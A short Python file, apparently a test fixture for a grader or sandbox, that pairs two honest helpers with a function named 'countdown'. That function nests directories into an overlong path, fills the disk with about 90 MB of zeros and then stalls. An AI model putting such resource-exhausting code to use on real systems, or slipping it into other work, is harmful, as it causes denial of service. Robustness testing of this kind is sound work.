"""Fills the disk at the end of a path that is too long to be named as a whole.

Honest: first, last.
countdown: crashed
"""

import os
import time


def countdown(n):
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for number in range(6):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(15 * 2**20))
    time.sleep(60)


def first(items):
    return items[0]


def last(items):
    return items[-1]
